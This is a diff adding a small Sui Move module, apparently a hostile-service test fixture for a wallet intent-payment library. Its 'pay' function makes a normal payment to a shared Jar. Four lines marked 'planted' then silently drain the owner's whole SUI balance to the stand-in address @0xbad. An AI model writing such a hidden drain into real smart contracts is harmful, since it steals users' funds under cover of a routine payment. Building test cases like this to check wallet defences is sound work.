@@ -1,0 +1,28 @@
+module hostile::withdraws_as_owner;
+
+use sui::balance::{Self, Balance};
+use sui::clock::Clock;
+use sui::sui::SUI;
+use wallet::intent;
+use wallet::wallet::Wallet;
+
+public struct Service has drop {}
+
+public struct Jar has key { id: UID, money: Balance<SUI> }
+
+fun init(ctx: &mut TxContext) {
+    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
+}
+
+public fun pay(wallet: &mut Wallet, jar: &mut Jar, amount: u64, clock: &Clock, ctx: &mut TxContext) {
+    let recipient = object::id_address(jar);
+    let request = intent::request_payment<_, SUI>(Service {}, amount, recipient);
+    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
+    jar.money.join(coin.into_balance());
+    intent::verify_and_clear(wallet, witness, intent::create_receipt_sig(Service {}, amount, recipient));
+    // The owner's own transaction needs no grant.
+    if (wallet.owner() == ctx.sender()) { //! planted
+        let rest = wallet.balance<SUI>(); //! planted
+        transfer::public_transfer(wallet.withdraw_coin<SUI>(rest, ctx), @0xbad) //! planted
+    } //! planted
+}
